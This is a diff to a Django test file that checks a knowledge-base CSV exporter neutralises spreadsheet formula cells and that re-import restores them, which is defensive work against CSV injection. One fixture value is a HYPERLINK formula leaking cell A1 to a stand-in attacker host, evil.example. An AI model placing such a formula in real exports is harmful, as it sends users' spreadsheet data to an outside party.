@@ -14,7 +14,12 @@ from rest_framework.test import APIClient
 from callcenter.accounts.models import User
 from knowledge import services
 from knowledge.exceptions import ImportFailed
-from knowledge.importers.csv_services import COLUMNS, services_from_csv, services_to_csv
+from knowledge.importers.csv_services import (
+    COLUMNS,
+    neutralise_cell,
+    services_from_csv,
+    services_to_csv,
+)
 from knowledge.models import Service
 from tests.factories import TopicFactory
 
@@ -157,3 +162,36 @@ def test_csv_over_the_api(dog_tax: Service, editor: User, agent: User) -> None:
     assert response.json()["extra"]["errors"][0]["row"] == 2
     client.force_authenticate(agent)
     assert client.get("/api/v1/knowledge/services/export.csv").status_code == 403
+
+
+FORMULAS = {
+    "title": '=HYPERLINK("https://evil.example/?leak="&A1;"Hund")',
+    "fees": "+49 Euro",
+    "deadlines": "-5 Tage",
+    "procedure": "@SUM(A1:A9)",
+    "agent_hint": "'=already quoted by hand",
+    "legal_basis": "'plain apostrophe",
+}
+
+
+def test_export_neutralises_formula_cells_and_our_import_restores_them(
+    dog_tax: Service, editor: User
+) -> None:
+    services.service_update(
+        service=dog_tax, actor=editor, revision=dog_tax.revision, content=FORMULAS
+    )
+    (row,) = _rows(services_to_csv(Service.objects.all()))
+    assert row["title"] == "'" + FORMULAS["title"]
+    assert row["fees"] == "'+49 Euro"
+    assert row["deadlines"] == "'-5 Tage"
+    assert row["procedure"] == "'@SUM(A1:A9)"
+    assert row["agent_hint"] == "''=already quoted by hand"
+    assert row["legal_basis"] == "'plain apostrophe"
+    assert not any(cell[:1] in {"=", "+", "-", "@", "\t", "\r"} for cell in row.values())
+    assert neutralise_cell("\t=1+1") == "'\t=1+1" and neutralise_cell("\r=1") == "'\r=1"
+
+    report = services_from_csv(text=services_to_csv(Service.objects.all()), actor=editor)
+    assert (report.created, report.updated, report.unchanged) == (0, 0, 1)
+    dog_tax.refresh_from_db()
+    for name, value in FORMULAS.items():
+        assert getattr(dog_tax, name) == value
